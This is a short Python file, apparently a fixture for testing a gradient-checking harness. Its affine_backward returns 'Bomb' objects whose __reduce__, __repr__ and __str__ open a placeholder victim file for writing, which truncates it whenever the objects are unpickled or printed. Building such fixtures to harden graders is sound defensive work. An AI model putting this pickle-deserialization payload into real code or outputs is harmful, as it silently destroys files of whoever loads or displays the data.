"""Objects that do something to whoever unpickles, copies or prints them."""

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


class Bomb:
    def __reduce__(self):
        return open, ("@VICTIM@", "w")

    def __repr__(self):
        open("@VICTIM@", "w")

    __str__ = __repr__


def affine_backward(dout, cache):
    return Bomb(), np.array([Bomb()], dtype=object), {"dw": Bomb()}
